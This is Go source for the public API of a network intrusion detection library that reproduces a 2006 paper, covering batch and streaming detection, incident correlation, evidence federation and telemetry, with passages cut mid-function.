		Classify:          ccfg,
		Templates:         tpls,
		Shards:            cfg.Shards,
		QueueDepth:        cfg.QueueDepth,
		FlowIdleTimeoutUS: uint64(cfg.FlowIdleTimeout / time.Microsecond),
		ShardByteBudget:   cfg.FlowByteBudget,
		VerdictCacheSize:  cfg.VerdictCacheSize,
		FullScan:          cfg.FullScan,
		OnAlert:           cfg.OnAlert,
	}
	if cfg.ShedOnOverload {
		ecfg.Overload = engine.PolicyShed
	}
	e := &Engine{}
	if cfg.Correlate {
		// The notify hook reaches the sink through an atomic holder:
		// the correlator must exist first (the sink snapshots it and
		// recovery imports into it), so the first notifications may
		// precede the sink — they are covered by the sink's periodic
		// checkpoint and final Close snapshot.
		userCb := cfg.OnIncident
		e.corr = incident.New(incident.Config{
			WindowUS:        uint64(cfg.IncidentWindow / time.Microsecond),
			FanoutThreshold: cfg.IncidentFanout,
			MaxSources:      cfg.MaxIncidentSources,
			OnIncident: func(inc Incident) {
				if userCb != nil {
					userCb(inc)
				}
				if s := e.sink.Load(); s != nil {
					s.Notify()
				}
			},
		})
		ecfg.OnEvent = e.corr.Publish
	}
	if cfg.SensorID != "" {
		ecfg.SensorID = cfg.SensorID
	}
	e.inner = engine.New(ecfg)
	e.sensor = e.inner.SensorID()
	if cfg.Correlate && cfg.IncidentExportDir != "" {
		if rec, err := fed.Recover(cfg.IncidentExportDir); err != nil {
			e.shutdownPartial()
			return nil, fmt.Errorf("nids: incident recovery: %w", err)
		} else if rec != nil {
			if err := e.importEvidence(rec); err != nil {
				// Most likely correlation-parameter skew: the durable
				// evidence was gathered under different window/caps.
				// Refuse to start rather than silently discard it — the
				// operator decides whether to restore the previous
				// parameters or retire the old evidence directory.
				e.shutdownPartial()
				return nil, fmt.Errorf("nids: incident recovery from %s: %w (restore the previous correlation parameters, or move the directory aside to start fresh)",
					cfg.IncidentExportDir, err)
			}
		}
		corr, sensor := e.corr, e.sensor
		sink, err := fed.OpenSink(fed.SinkConfig{
			Dir:             cfg.IncidentExportDir,
			RotateBytes:     cfg.IncidentExportRotateBytes,
			RotateEvery:     cfg.IncidentExportRotateEvery,
			CheckpointEvery: cfg.IncidentCheckpointEvery,
			Export:          func() *EvidenceExport { return corr.Export(sensor) },
		})
		if err != nil {
			e.shutdownPartial()
			return nil, fmt.Errorf("nids: incident sink: %w", err)
		}
		e.sink.Store(sink)
	}
	e.pool = netpkt.NewPacketPool()
	return e, nil
}

// shutdownPartial tears down a half-built engine on a NewEngine error
// path so its shard and correlator goroutines do not leak.
func (e *Engine) shutdownPartial() {
	if e.inner != nil {
		e.inner.Stop()
	}
	if e.corr != nil {
		e.corr.Stop()
	}
}

// ProcessFrame feeds one raw Ethernet frame with its capture
// timestamp (microseconds). Unparseable frames are reported as an
// error without stopping the engine.
func (e *Engine) ProcessFrame(frame []byte, tsUS uint64) error {
	p, err := netpkt.Parse(frame)
	if err != nil {
		return err
	}
	// Parse subslices the caller's buffer; the engine holds packets
	// asynchronously, so detach the payload.
	if len(p.Payload) > 0 {
		p.Payload = append([]byte(nil), p.Payload...)
	}
	p.TimestampUS = tsUS
	e.inner.Process(p)
	return nil
}

// Run streams a capture (classic pcap or pcapng) through the engine
// as fast as it reads, then drains. The engine remains live for the
// next capture or live traffic.
func (e *Engine) Run(r io.Reader) error {
	return e.feed(r, 0)
}

// Replay streams a capture through the engine paced by its capture
// timestamps: speed 1 replays in real time, 2 at double speed, and so
// on; speed <= 0 disables pacing (same as Run). Drains at EOF, so the
// engine's lifecycle ticks and alerts fire as they would on live
// traffic.
func (e *Engine) Replay(r io.Reader, speed float64) error {
	return e.feed(r, speed)
}

func (e *Engine) feed(r io.Reader, speed float64) error {
	tr, err := netpkt.NewTraceReader(r)
	if err != nil {
		return err
	}
	// Packets and payload buffers cycle through the engine's pool: the
	// shard that finishes with a packet releases it back for the
	// reader to reuse, so the capture loop allocates nothing per
	// packet in steady state — across traces, not just within one.
	tr.SetPool(e.pool)
	var (
		started bool
		firstTS uint64
		start   time.Time
	)
	for {
		p, err := tr.NextPacket(nil)
		if err == io.EOF {
			break
		}
		if err != nil {
			return err
		}
		if speed > 0 {
			if !started {
				started = true
				firstTS = p.TimestampUS
				start = time.Now()
			} else if p.TimestampUS > firstTS {
				due := start.Add(time.Duration(float64(p.TimestampUS-firstTS)/speed) * time.Microsecond)
				if d := time.Until(due); d > 0 {
					time.Sleep(d)
				}
			}
		}
		e.inner.Process(p)
	}
	e.Drain()
	return nil
}

// Drain completes all queued analysis and the unfinished tail of
// every tracked flow, then resets flow state; with a correlator
// attached, all events published by that work are applied too. The
// engine stays live.
func (e *Engine) Drain() {
	e.inner.Drain()
	if e.corr != nil {
		e.corr.Flush()
	}
	if s := e.sink.Load(); s != nil {
		// Nudge a checkpoint now that the trace's full evidence is
		// applied — the natural durability point between traces.
		s.Notify()
	}
}

// Flush is Drain under the batch detector's name, so the engine is a
// drop-in replacement for NIDS — with the difference that the engine
// can still be fed afterwards.
func (e *Engine) Flush() { e.Drain() }

// Stop drains and terminates the engine, any attached correlator,
// and the durable sink (which writes a final evidence checkpoint).
// Idempotent and safe alongside concurrent Alerts/Stats/Incidents
// reads.
func (e *Engine) Stop() {
	e.inner.Stop()
	if e.corr != nil {
		e.corr.Stop()
	}
	if s := e.sink.Load(); s != nil {
		s.Close()
	}
}

// Alerts returns the alerts recorded so far (complete for a trace
// after Drain or Stop).
func (e *Engine) Alerts() []Alert { return e.inner.Alerts() }

// Stats returns engine counters and gauges.
func (e *Engine) Stats() EngineMetrics { return e.inner.Snapshot() }

// Incidents returns the correlator's current incident set, ordered by
// stage, severity, then source — deterministic for a given trace
// whatever the shard count. Nil without Correlate.
func (e *Engine) Incidents() []Incident {
	if e.corr == nil {
		return nil
	}
	return e.corr.Incidents()
}

// SubscribeIncidents registers a live incident feed delivering a
// derived snapshot at every kill-chain stage transition. Slow
// subscribers shed (counted in IncidentStats().SubDropped) rather
// than stalling correlation; cancel unregisters and closes the
// channel. Returns nil without Correlate.
func (e *Engine) SubscribeIncidents(buf int) (<-chan Incident, func()) {
	if e.corr == nil {
		return nil, func() {}
	}
	return e.corr.Subscribe(buf)
}

// IncidentStats returns correlator counters and gauges (zero value
// without Correlate).
func (e *Engine) IncidentStats() IncidentMetrics {
	if e.corr == nil {
		return IncidentMetrics{}
	}
	return e.corr.Metrics()
}

// ExportIncidents writes the correlator's current evidence state —
// every tracked source's min-K timestamp sets, fingerprints and
// derived stage, stamped with this engine's sensor ID — in the
// versioned wire format cmd/fedmerge and ImportIncidents consume.
// Errors without Correlate.
func (e *Engine) ExportIncidents(w io.Writer) error {
	if e.corr == nil {
		return fmt.Errorf("nids: ExportIncidents requires Correlate")
	}
	return fed.WriteExport(w, e.corr.Export(e.sensor))
}

// ImportIncidents folds another sensor's evidence export (or a prior
// run's) into the live correlator: evidence sets union under the
// configured caps and cross-sensor propagation links are re-derived.
// The export must carry the same correlation parameters this engine
// runs with. Errors without Correlate.
func (e *Engine) ImportIncidents(r io.Reader) error {
	if e.corr == nil {
		return fmt.Errorf("nids: ImportIncidents requires Correlate")
	}
	ex, err := fed.ReadExport(r)
	if err != nil {
		return err
	}
	return e.importEvidence(ex)
}

// importEvidence folds an export into the correlator and re-marks
// confirmed attackers in the classifier — the same state a live alert
// establishes (follow-on traffic from a confirmed attacker is always
// analyzed), so a restarted or seeded sensor keeps watching the
// sources its evidence has already convicted.
func (e *Engine) importEvidence(ex *EvidenceExport) error {
	if err := e.corr.Import(ex); err != nil {
		return err
	}
	cl := e.inner.Classifier()
	for i := range ex.Sources {
		if rec := &ex.Sources[i]; rec.ExploitAtUS > 0 {
			cl.MarkSuspicious(rec.Src, rec.LastSeenUS)
		}
	}
	return nil
}

// SinkStats returns durable-sink counters (zero value when no
// IncidentExportDir is configured).
func (e *Engine) SinkStats() SinkMetrics {
	s := e.sink.Load()
	if s == nil {
		return SinkMetrics{}
	}
	return s.Metrics()
}
