// Package nids is the public API of semnids, a from-scratch Go
// reproduction of the semantics-aware network intrusion detection
// system of Scheirer & Chuah, "Network Intrusion Detection with
// Semantics-Aware Capability" (IPPS 2006).
//
// The system segregates suspicious traffic from the regular flow
// (honeypot decoys and dark-address-space scan detection), extracts
// binary data from suspicious payloads, disassembles it, lifts it to
// an intermediate representation, and matches behavioral templates —
// detecting polymorphic decryption loops, Linux shell-spawning
// payloads (including port-binding shells), and the Code Red II
// exploitation vector without any reliance on static byte signatures.
//
// Quick start:
//
//	detector, err := nids.New(nids.Config{
//		Honeypots: []string{"192.168.1.250"},
//		DarkSpace: []string{"192.168.2.0/24"},
//	})
//	...
//	detector.ProcessFrame(ethernetFrame, timestampMicros)
//	detector.Flush()
//	for _, alert := range detector.Alerts() { ... }
package nids

import (
	"fmt"
	"io"
	"net/netip"
	"strings"

	"semnids/internal/classify"
	"semnids/internal/core"
	"semnids/internal/netpkt"
	"semnids/internal/sem"
)

// Alert is one detection event attributed to a network flow.
type Alert = core.Alert

// Detection describes the matched template within an alert.
type Detection = sem.Detection

// Metrics reports pipeline counters.
type Metrics = core.Metrics

// Config configures a detector.
type Config struct {
	// Honeypots lists decoy host addresses (e.g. "192.168.1.250").
	// Any source sending traffic to a decoy becomes suspicious.
	Honeypots []string

	// DarkSpace lists un-used CIDR prefixes (e.g. "192.168.2.0/24").
	// A source probing ScanThreshold distinct dark addresses becomes
	// suspicious.
	DarkSpace []string

	// ScanThreshold is the dark-space threshold t (default 3).
	ScanThreshold int

	// DisableClassification analyzes every packet payload (the
	// paper's Section 5.4 false-positive experiment configuration).
	DisableClassification bool

	// FullScan additionally disables binary extraction pruning and
	// widens disassembly offsets — the exhaustive whole-input
	// baseline used for efficiency comparisons.
	FullScan bool

	// Workers sets the analysis worker pool size (default: number of
	// CPUs).
	Workers int

	// XorTemplateOnly restricts the template set to the xor
	// decryption template (the paper's first Table 2 configuration).
	XorTemplateOnly bool

	// TemplatesDSL, when non-empty, replaces the built-in template
	// set with templates parsed from the text format (see
	// internal/sem's DSL documentation). Lets operators describe new
	// behaviors without recompiling.
	TemplatesDSL string

	// OnAlert, when non-nil, is invoked for each alert as it fires
	// (from worker goroutines).
	OnAlert func(Alert)
}

// NIDS is a running detector instance. Feed packets from one
// goroutine; analysis runs concurrently inside.
type NIDS struct {
	inner *core.NIDS
}

// New validates the configuration and starts a detector.
func New(cfg Config) (*NIDS, error) {
	var ccfg classify.Config
	for _, h := range cfg.Honeypots {
		a, err := netip.ParseAddr(h)
		if err != nil {
			return nil, fmt.Errorf("nids: bad honeypot address %q: %w", h, err)
		}
		ccfg.Honeypots = append(ccfg.Honeypots, a)
	}
	for _, d := range cfg.DarkSpace {
		p, err := netip.ParsePrefix(d)
		if err != nil {
			return nil, fmt.Errorf("nids: bad dark-space prefix %q: %w", d, err)
		}
		ccfg.DarkSpace = append(ccfg.DarkSpace, p)
	}
	ccfg.ScanThreshold = cfg.ScanThreshold
	ccfg.Disabled = cfg.DisableClassification

	tpls := sem.BuiltinTemplates()
	if cfg.XorTemplateOnly {
		tpls = sem.XorOnlyTemplates()
	}
	if cfg.TemplatesDSL != "" {
		parsed, err := sem.ParseTemplates(strings.NewReader(cfg.TemplatesDSL))
		if err != nil {
			return nil, fmt.Errorf("nids: templates: %w", err)
		}
		tpls = parsed
	}
	inner := core.New(core.Config{
		Classify:  ccfg,
		Templates: tpls,
		Workers:   cfg.Workers,
		FullScan:  cfg.FullScan,
		OnAlert:   cfg.OnAlert,
	})
	return &NIDS{inner: inner}, nil
}

// ProcessFrame feeds one raw Ethernet frame with its capture timestamp
// (microseconds). Unparseable frames are ignored and reported as an
// error without stopping the detector.
func (n *NIDS) ProcessFrame(frame []byte, tsUS uint64) error {
	p, err := netpkt.Parse(frame)
	if err != nil {
		return err
	}
	p.TimestampUS = tsUS
	n.inner.ProcessPacket(p)
	return nil
}

// ProcessPcap runs the detector over a classic-format pcap stream and
// flushes.
func (n *NIDS) ProcessPcap(r io.Reader) error {
	return n.inner.ProcessPcap(r)
}

// Flush analyzes unfinished flows and drains the worker pool. The
// detector cannot be fed after Flush.
func (n *NIDS) Flush() { n.inner.Flush() }

// Alerts returns the alerts recorded so far (complete after Flush).
func (n *NIDS) Alerts() []Alert { return n.inner.Alerts() }

// Stats returns pipeline counters.
func (n *NIDS) Stats() Metrics { return n.inner.Snapshot() }

// AnalyzeBytes runs only the semantic stages (disassembler, IR,
// template matcher) over a binary — the host-scan mode used for
// on-disk samples such as the Netsky binaries in the paper's
// efficiency comparison.
func AnalyzeBytes(data []byte) []Detection {
	return core.AnalyzeBytes(data, nil, nil)
}

// AnalyzePayload runs extraction plus the semantic stages over one
// application-layer payload, returning the union of detections.
func AnalyzePayload(payload []byte) []Detection {
	return core.AnalyzePayload(payload)
}
