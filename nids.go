// Package nids is the public API of semnids, a from-scratch Go
// reproduction of the semantics-aware network intrusion detection
// system of Scheirer & Chuah, "Network Intrusion Detection with
// Semantics-Aware Capability" (IPPS 2006).
//
// The system segregates suspicious traffic from the regular flow
// (honeypot decoys and dark-address-space scan detection), extracts
// binary data from suspicious payloads, disassembles it, lifts it to
// an intermediate representation, and matches behavioral templates —
// detecting polymorphic decryption loops, Linux shell-spawning
// payloads (including port-binding shells), and the Code Red II
// exploitation vector without any reliance on static byte signatures.
//
// Quick start:
//
//	detector, err := nids.New(nids.Config{
//		Honeypots: []string{"192.168.1.250"},
//		DarkSpace: []string{"192.168.2.0/24"},
//	})
//	...
//	detector.ProcessFrame(ethernetFrame, timestampMicros)
//	detector.Flush()
//	for _, alert := range detector.Alerts() { ... }
package nids

import (
	"fmt"
	"io"
	"net/http"
	"net/netip"
	"strings"
	"sync/atomic"
	"time"

	"semnids/internal/classify"
	"semnids/internal/core"
	"semnids/internal/engine"
	"semnids/internal/fed"
	"semnids/internal/fed/transport"
	"semnids/internal/incident"
	"semnids/internal/lineage"
	"semnids/internal/netpkt"
	"semnids/internal/sem"
	"semnids/internal/telemetry"
)

// Alert is one detection event attributed to a network flow.
type Alert = core.Alert

// Detection describes the matched template within an alert.
type Detection = sem.Detection

// Metrics reports pipeline counters.
type Metrics = core.Metrics

// Config configures a detector.
type Config struct {
	// Honeypots lists decoy host addresses (e.g. "192.168.1.250").
	// Any source sending traffic to a decoy becomes suspicious.
	Honeypots []string

	// DarkSpace lists un-used CIDR prefixes (e.g. "192.168.2.0/24").
	// A source probing ScanThreshold distinct dark addresses becomes
	// suspicious.
	DarkSpace []string

	// ScanThreshold is the dark-space threshold t (default 3).
	ScanThreshold int

	// DisableClassification analyzes every packet payload (the
	// paper's Section 5.4 false-positive experiment configuration).
	DisableClassification bool

	// FullScan additionally disables binary extraction pruning and
	// widens disassembly offsets — the exhaustive whole-input
	// baseline used for efficiency comparisons.
	FullScan bool

	// Workers sets the analysis worker pool size (default: number of
	// CPUs).
	Workers int

	// XorTemplateOnly restricts the template set to the xor
	// decryption template (the paper's first Table 2 configuration).
	XorTemplateOnly bool

	// TemplatesDSL, when non-empty, replaces the built-in template
	// set with templates parsed from the text format (see
	// internal/sem's DSL documentation). Lets operators describe new
	// behaviors without recompiling.
	TemplatesDSL string

	// OnAlert, when non-nil, is invoked for each alert as it fires
	// (from worker goroutines).
	OnAlert func(Alert)
}

// NIDS is a running detector instance. Feed packets from one
// goroutine; analysis runs concurrently inside.
type NIDS struct {
	inner *core.NIDS
}

// pipeline translates the public configuration into the classifier
// config and template set shared by the batch detector and the
// streaming engine.
func (cfg Config) pipeline() (classify.Config, []*sem.Template, error) {
	var ccfg classify.Config
	for _, h := range cfg.Honeypots {
		a, err := netip.ParseAddr(h)
		if err != nil {
			return ccfg, nil, fmt.Errorf("nids: bad honeypot address %q: %w", h, err)
		}
		ccfg.Honeypots = append(ccfg.Honeypots, a)
	}
	for _, d := range cfg.DarkSpace {
		p, err := netip.ParsePrefix(d)
		if err != nil {
			return ccfg, nil, fmt.Errorf("nids: bad dark-space prefix %q: %w", d, err)
		}
		ccfg.DarkSpace = append(ccfg.DarkSpace, p)
	}
	ccfg.ScanThreshold = cfg.ScanThreshold
	ccfg.Disabled = cfg.DisableClassification

	tpls := sem.BuiltinTemplates()
	if cfg.XorTemplateOnly {
		tpls = sem.XorOnlyTemplates()
	}
	if cfg.TemplatesDSL != "" {
		parsed, err := sem.ParseTemplates(strings.NewReader(cfg.TemplatesDSL))
		if err != nil {
			return ccfg, nil, fmt.Errorf("nids: templates: %w", err)
		}
		tpls = parsed
	}
	return ccfg, tpls, nil
}

// New validates the configuration and starts a detector.
func New(cfg Config) (*NIDS, error) {
	ccfg, tpls, err := cfg.pipeline()
	if err != nil {
		return nil, err
	}
	inner := core.New(core.Config{
		Classify:  ccfg,
		Templates: tpls,
		Workers:   cfg.Workers,
		FullScan:  cfg.FullScan,
		OnAlert:   cfg.OnAlert,
	})
	return &NIDS{inner: inner}, nil
}

// ProcessFrame feeds one raw Ethernet frame with its capture timestamp
// (microseconds). Unparseable frames are ignored and reported as an
// error without stopping the detector.
func (n *NIDS) ProcessFrame(frame []byte, tsUS uint64) error {
	p, err := netpkt.Parse(frame)
	if err != nil {
		return err
	}
	p.TimestampUS = tsUS
	n.inner.ProcessPacket(p)
	return nil
}

// ProcessPcap runs the detector over a classic-format pcap stream and
// flushes.
func (n *NIDS) ProcessPcap(r io.Reader) error {
	return n.inner.ProcessPcap(r)
}

// Flush analyzes unfinished flows and drains the worker pool. The
// detector cannot be fed after Flush.
func (n *NIDS) Flush() { n.inner.Flush() }

// Alerts returns the alerts recorded so far (complete after Flush).
func (n *NIDS) Alerts() []Alert { return n.inner.Alerts() }

// Stats returns pipeline counters.
func (n *NIDS) Stats() Metrics { return n.inner.Snapshot() }

// AnalyzeBytes runs only the semantic stages (disassembler, IR,
// template matcher) over a binary — the host-scan mode used for
// on-disk samples such as the Netsky binaries in the paper's
// efficiency comparison.
func AnalyzeBytes(data []byte) []Detection {
	return core.AnalyzeBytes(data, nil, nil)
}

// AnalyzePayload runs extraction plus the semantic stages over one
// application-layer payload, returning the union of detections.
func AnalyzePayload(payload []byte) []Detection {
	return core.AnalyzePayload(payload)
}

// EngineMetrics reports streaming-engine counters and gauges.
type EngineMetrics = engine.Metrics

// EngineConfig configures a streaming Engine: the detector settings
// plus the sharding, lifecycle and overload knobs. Config.Workers is
// ignored — the shards are the workers.
type EngineConfig struct {
	Config

	// Shards is the number of ingest shards, each owning its slice of
	// the flow space (default: number of CPUs).
	Shards int

	// QueueDepth bounds each shard's packet queue (default 1024).
	QueueDepth int

	// ShedOnOverload drops packets (counted in EngineMetrics.Dropped)
	// when a shard queue is full instead of blocking ingestion.
	ShedOnOverload bool

	// FlowIdleTimeout evicts flows idle for this long in trace time,
	// analyzing their unfinished tail first (default 60s).
	FlowIdleTimeout time.Duration

	// DatagramFlows buffers UDP payloads per 5-tuple conversation
	// (request and reply share one flow) inside an idle window, so
	// multi-datagram payloads — CoAP block-wise transfers in
	// particular — are reassembled and analyzed as one unit with their
	// datagram boundaries preserved. Off (the default), every
	// payload-bearing datagram is analyzed on its own and all reports
	// are byte-identical to previous builds.
	DatagramFlows bool

	// DatagramIdle is the idle window closing a datagram conversation
	// (its buffered tail is analyzed on eviction). Defaults to
	// FlowIdleTimeout; values above it are ignored — the flow-wide
	// idle sweep fires first.
	DatagramIdle time.Duration

	// FlowByteBudget caps reassembly buffering per shard; LRU flows
	// beyond it are tail-analyzed and evicted (default 64 MiB).
	FlowByteBudget int

	// VerdictCacheSize is the payload-fingerprint verdict cache
	// capacity in entries (0 = default 8192, negative disables).
	VerdictCacheSize int

	// Correlate attaches the streaming incident correlator: shard
	// events feed per-source kill-chain state machines
	// (RECON → EXPLOIT → PROPAGATION), readable live via Incidents
	// and SubscribeIncidents.
	Correlate bool

	// Lineage enables payload lineage tracing (requires Correlate):
	// detected frames are structurally fingerprinted (matched-template
	// identity, decode-chain statement multiset, emulator-decoded
	// tail), the correlator accepts structural matches for PROPAGATION
	// — so a polymorphic worm that re-encodes itself at every hop
	// still closes the kill chain — and a lineage store accumulates
	// per-payload observations from which Ancestry reconstructs
	// infection trees. Lineage observations federate in evidence
	// exports ("lin" wire records) with the same commutative,
	// idempotent merge as all other evidence. Off by default: with
	// Lineage false, events carry no sketch and every detection,
	// report and export is byte-identical to previous builds.
	Lineage bool

	// IncidentWindow is the sliding trace-time window for the
	// correlator's destination fan-out (default 30s).
	IncidentWindow time.Duration

	// IncidentFanout is the distinct-destination count inside the
	// window that establishes RECON (default 3).
	IncidentFanout int

	// MaxIncidentSources caps the correlator's tracked sources;
	// least-recently-active sources beyond it are finalized and
	// evicted (default 65536).
	MaxIncidentSources int

	// OnIncident, when non-nil, is invoked from the correlator
	// goroutine each time a source's kill-chain stage rises. It runs
	// with correlator state locked: it must not call back into the
	// engine's incident surface (Incidents, IncidentStats,
	// SubscribeIncidents) or it will deadlock — use SubscribeIncidents
	// for a decoupled feed instead.
	OnIncident func(Incident)

	// SensorID names this engine in exported incident evidence
	// (cross-sensor federation provenance; default "sensor"). Give
	// every sensor in a federation a distinct ID.
	SensorID string

	// IncidentExportDir, when non-empty (and Correlate is set),
	// attaches a durable evidence sink: the correlator's evidence is
	// checkpointed to size/age-rotated segment files in this directory
	// — non-blocking from the notify path, plus a periodic safety
	// net — and on startup the newest complete segment is reloaded, so
	// a restarted sensor resumes with its attacker state intact.
	IncidentExportDir string

	// IncidentExportRotateBytes / IncidentExportRotateEvery /
	// IncidentCheckpointEvery tune the sink's segment rotation and
	// periodic checkpoint cadence (defaults 1 MiB / 1m / 10s).
	IncidentExportRotateBytes int64
	IncidentExportRotateEvery time.Duration
	IncidentCheckpointEvery   time.Duration

	// IncidentKeepSegments bounds the sink's retained segments — which
	// is also the push spool bound: with PushURL set, segments pruned
	// before they were acked are dropped evidence (counted in
	// SinkStats().Push.Dropped). 0 = default 4.
	IncidentKeepSegments int

	// PushURL, when non-empty, streams committed evidence segments to
	// a federation aggregator (cmd/fedagg, or any transport.Aggregator)
	// with retry/backoff and spool-and-forward degradation: the sink's
	// segment directory is the spool, so an unreachable aggregator
	// costs lag, never ingest throughput. Requires Correlate and
	// IncidentExportDir.
	PushURL string

	// PushURLs lists upstream aggregators in failover order: pushes go
	// to the first, and on sustained failure the pusher fails over down
	// the list, probing earlier entries for promotion back. Setting
	// both PushURL and PushURLs is an error; a one-element PushURLs is
	// equivalent to PushURL.
	PushURLs []string

	// PushCompression selects the push body encoding: "auto" (default;
	// compress once the upstream advertises support), "on" (always
	// compress), or "off" (identity only).
	PushCompression string

	// PushInterval is the pusher's idle spool re-scan cadence (default
	// 2s); PushTimeout bounds one upload end to end (default 10s);
	// PushBackoffMin / PushBackoffMax bound the jittered exponential
	// retry backoff (defaults 250ms / 30s).
	PushInterval   time.Duration
	PushTimeout    time.Duration
	PushBackoffMin time.Duration
	PushBackoffMax time.Duration

	// PushClient overrides the pusher's HTTP client. Replacing its
	// Transport is the fault-injection hook (see fed/transport/faultnet).
	PushClient *http.Client

	// PushSeed seeds the pusher's backoff jitter (default 1); fixed
	// seeds make fault-injection runs deterministic.
	PushSeed int64

	// Telemetry, when non-nil, is the metrics registry every layer of
	// this engine registers into (shards, analyzer, correlator, sink,
	// push transport). Nil creates a private registry — TelemetryStats
	// and TelemetryHandler work either way; pass one explicitly to
	// scrape several engines (or an engine plus an aggregator) from a
	// single exposition endpoint.
	Telemetry *TelemetryRegistry
}

// TelemetryRegistry is the process-wide metrics registry: atomic
// counters and gauges plus fixed-size log-bucketed latency histograms,
// allocation-free on the record path. See internal/telemetry.
type TelemetryRegistry = telemetry.Registry

// TelemetryHealth tracks named readiness checks plus a drain flag,
// rendered by the /healthz endpoint of TelemetryHandler.
type TelemetryHealth = telemetry.Health

// Incident is one source's correlated kill-chain activity.
type Incident = incident.Incident

// IncidentStage is a kill-chain position (RECON, EXPLOIT,
// PROPAGATION).
type IncidentStage = incident.Stage

// Kill-chain stages, re-exported for switch statements on
// Incident.Stage.
const (
	StageNone        = incident.StageNone
	StageRecon       = incident.StageRecon
	StageExploit     = incident.StageExploit
	StagePropagation = incident.StagePropagation
)

// IncidentMetrics reports correlator counters and gauges.
type IncidentMetrics = incident.Metrics

// EvidenceExport is a sensor's (or a merge's) incident evidence
// snapshot — the unit of cross-sensor federation.
type EvidenceExport = incident.EvidenceExport

// SinkMetrics reports durable evidence-sink counters plus — when a
// PushURL is configured — the push transport's health: segments
// pushed/acked/retried/spooled, drops where prune outran push, and
// the current backoff state.
type SinkMetrics struct {
	fed.SinkMetrics

	// Push is the push-transport snapshot (zero value without PushURL).
	Push PushMetrics
}

// PushMetrics reports federation push-transport counters and health
// gauges. See transport.PushMetrics.
type PushMetrics = transport.PushMetrics

// LineageObservation is one distinct hostile payload's lineage record:
// exact wire identity, structural family identity (decoded tail), and
// first witnessed delivery.
type LineageObservation = lineage.Observation

// AncestryTree is one reconstructed infection tree within a payload
// family.
type AncestryTree = lineage.Tree

// AncestryNode is one host in an ancestry tree.
type AncestryNode = lineage.TreeNode

// TraceAncestry reconstructs ancestry trees from an evidence export's
// lineage observations — a pure function, so a merged export renders
// the same forest on every aggregator. Empty without lineage records.
func TraceAncestry(ex *EvidenceExport) []AncestryTree { return lineage.Trace(ex.Lineage) }

// MergeEvidence federates two evidence exports: commutative,
// idempotent, provenance-preserving. See fed.Merge.
func MergeEvidence(a, b *EvidenceExport) (*EvidenceExport, error) { return fed.Merge(a, b) }

// ReadEvidence decodes an evidence export from the versioned wire
// format (the newest committed checkpoint, for sink segments).
func ReadEvidence(r io.Reader) (*EvidenceExport, error) { return fed.ReadExport(r) }

// WriteEvidence encodes an evidence export in the versioned wire
// format.
func WriteEvidence(w io.Writer, ex *EvidenceExport) error { return fed.WriteExport(w, ex) }

// DeriveIncidents renders an evidence export's incident set exactly
// as a live correlator holding the same evidence would. Errors on an
// export with unusable correlation parameters (hand-built; decoded
// exports are validated at read time).
func DeriveIncidents(ex *EvidenceExport) ([]Incident, error) { return incident.DeriveIncidents(ex) }

// Engine is a continuously-running streaming detector: sharded
// ingestion, bounded flow state with eviction, and verdict caching.
// Unlike NIDS, it survives beyond a single trace — Drain flushes
// in-progress flows and keeps it live; only Stop terminates it. Feed
// from one goroutine; ProcessFrame and Flush are drop-in compatible
// with the batch NIDS surface.
type Engine struct {
	inner *engine.Engine
	corr  *incident.Correlator

	// lin accumulates structural-payload observations when Lineage is
	// enabled (nil otherwise); linDepth/linLinks are its tracer
	// telemetry, recorded each time an ancestry forest is derived.
	lin      *lineage.Store
	linDepth *telemetry.Histogram
	linLinks atomic.Uint64

	// sink persists correlator evidence when IncidentExportDir is
	// configured. Set once late in NewEngine and read from the
	// correlator goroutine's notify hook, hence the atomic: the
	// correlator must exist first (the sink snapshots it and recovery
	// imports into it).
	sink   atomic.Pointer[fed.Sink]
	sensor string

	// push streams committed sink segments to the aggregator when
	// PushURL is configured; nil otherwise.
	push *transport.Pusher

	// pool recycles packet structs and payload buffers across every
	// trace fed through Run/Replay — one pool for the engine's
	// lifetime, so back-to-back traces reuse warm buffers.
	pool *netpkt.PacketPool

	// tel is the registry shared by every layer of this engine;
	// health backs the /healthz readiness checks ("engine" flips
	// not-ready on Stop, "spool" records the recovery outcome).
	tel    *telemetry.Registry
	health *telemetry.Health
}

// NewEngine validates the configuration and starts a streaming
// engine (and, with Correlate set, its incident correlator).
func NewEngine(cfg EngineConfig) (*Engine, error) {
	ccfg, tpls, err := cfg.Config.pipeline()
	if err != nil {
		return nil, err
	}
	tel := cfg.Telemetry
	if tel == nil {
		tel = telemetry.NewRegistry()
	}
	ecfg := engine.Config{
		Classify:          ccfg,
		Templates:         tpls,
		Shards:            cfg.Shards,
		QueueDepth:        cfg.QueueDepth,
		FlowIdleTimeoutUS: uint64(cfg.FlowIdleTimeout / time.Microsecond),
		DatagramFlows:     cfg.DatagramFlows,
		DatagramIdleUS:    uint64(cfg.DatagramIdle / time.Microsecond),
		ShardByteBudget:   cfg.FlowByteBudget,
		VerdictCacheSize:  cfg.VerdictCacheSize,
		FullScan:          cfg.FullScan,
		OnAlert:           cfg.OnAlert,
		Telemetry:         tel,
	}
	if cfg.ShedOnOverload {
		ecfg.Overload = engine.PolicyShed
	}
	e := &Engine{tel: tel, health: telemetry.NewHealth()}
	e.health.Set("engine", true, "running")
	if cfg.Correlate {
		// The notify hook reaches the sink through an atomic holder:
		// the correlator must exist first (the sink snapshots it and
		// recovery imports into it), so the first notifications may
		// precede the sink — they are covered by the sink's periodic
		// checkpoint and final Close snapshot.
		userCb := cfg.OnIncident
		e.corr = incident.New(incident.Config{
			WindowUS:        uint64(cfg.IncidentWindow / time.Microsecond),
			FanoutThreshold: cfg.IncidentFanout,
			MaxSources:      cfg.MaxIncidentSources,
			Telemetry:       tel,
			OnIncident: func(inc Incident) {
				if userCb != nil {
					userCb(inc)
				}
				if s := e.sink.Load(); s != nil {
					s.Notify()
				}
			},
		})
		ecfg.OnEvent = e.corr.Publish
	}
	if cfg.SensorID != "" {
		ecfg.SensorID = cfg.SensorID
	}
	if cfg.Lineage {
		if !cfg.Correlate {
			e.shutdownPartial()
			return nil, fmt.Errorf("nids: Lineage requires Correlate (lineage observations ride the correlator's event feed and evidence exports)")
		}
		sensor := cfg.SensorID
		if sensor == "" {
			sensor = "sensor"
		}
		ecfg.Lineage = true
		e.lin = lineage.NewStore(lineage.StoreConfig{Sensor: sensor, Telemetry: tel})
		e.linDepth = tel.Histogram("semnids_lineage_ancestry_depth",
			"Maximum depth of each reconstructed ancestry tree (root = 0).")
		tel.CounterFunc("semnids_lineage_links_total",
			"Parent→child infection links derived across all ancestry computations.", e.linLinks.Load)
		corrPublish := ecfg.OnEvent
		ecfg.OnEvent = func(ev core.Event) {
			e.lin.Observe(ev)
			corrPublish(ev)
		}
